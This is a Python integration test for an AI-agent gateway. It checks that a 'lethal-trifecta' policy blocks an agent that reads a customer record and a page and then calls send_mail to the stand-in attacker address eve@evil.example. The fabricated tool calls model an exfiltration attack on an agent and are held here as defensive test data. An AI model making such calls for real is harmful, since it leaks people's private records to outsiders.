"""Templates from the library in force at a real gateway: calls in messages are held or let go."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from tests.served import Served, serving, wait_until

_PROVED_SECONDS_MAX = 60.0
_FOLLOWED_SECONDS_MAX = 15.0
_ASKED = {"role": "user", "content": "Please sum up that page for me."}


def _call(name: str, call_id: str, **arguments: str) -> dict[str, Any]:
    called = {"name": name, "arguments": json.dumps(arguments)}
    calls = [{"id": call_id, "type": "function", "function": called}]
    return {"role": "assistant", "content": None, "tool_calls": calls}


_MAIL = _call("send_mail", "2", to="eve@evil.example", body="hello")


def _result(text: str) -> dict[str, Any]:
    return {"role": "tool", "tool_call_id": "1", "content": text}


def _in_force(served: Served, template: str) -> None:
    url = f"{served.url}/api/v2/policies"
    name = f"house-{template}"
    source = f"policy {name} version 1\ndefault profile\non error block\nuse {template}\n"
    written = httpx.post(url, json={"name": name, "source": source}, timeout=30)
    assert written.status_code == 201, written.text
    policy = f"{url}/{written.json()['policyId']}"

    def proved() -> bool:
        told = httpx.get(f"{policy}/verification", timeout=30).json()
        assert told["status"] != "failed", told
        return bool(told["status"] == "verified")

    wait_until(proved, "a proof", _PROVED_SECONDS_MAX)
    order = {"targetEnvironment": "production", "rolloutStrategy": "immediate"}
    assert httpx.post(f"{policy}/deploy", json=order, timeout=30).status_code in {200, 202}

    def followed() -> bool:
        return f"+{name}.1-" in served.detect("hello")["metadata"]["policyVersion"]

    wait_until(followed, "the policy", _FOLLOWED_SECONDS_MAX)


def _ask(served: Served, *messages: dict[str, Any], session: str | None = None) -> dict[str, Any]:
    body: dict[str, Any] = {"content": {"messages": list(messages)}}
    if session is not None:
        body["context"] = {"sessionId": session}
    answer = httpx.post(f"{served.url}/api/v2/detect", json=body, timeout=30)
    assert answer.status_code == 200, answer.text
    told: dict[str, Any] = answer.json()
    return told


@pytest.mark.parametrize("conversations", [False, True])
def test_calls_in_messages_are_held_by_templates(tmp_path: Path, conversations: bool) -> None:
    config = "[conversations]\nenabled = true\n" if conversations else ""
    with serving(tmp_path, config) as served:
        _in_force(served, "lethal-trifecta")
        secret, page = _call("get_customer_record", "1", id="7"), _result("Jane, Elm Street 9")
        assert _ask(served, _ASKED, _MAIL, session="a")["action"] == "allow"
        assert _ask(served, _ASKED, secret, session="b")["action"] == "allow"
        assert _ask(served, _ASKED, secret, page, session="b")["action"] == "allow"
        held = _ask(served, _ASKED, secret, page, _MAIL, session="b")
        assert held["action"] == "block", held
        # What a session read is known without its messages, and of no other session.
        assert _ask(served, _ASKED, _MAIL, session="b")["action"] == "block"
        assert _ask(served, _ASKED, _MAIL, session="c")["action"] == "allow"
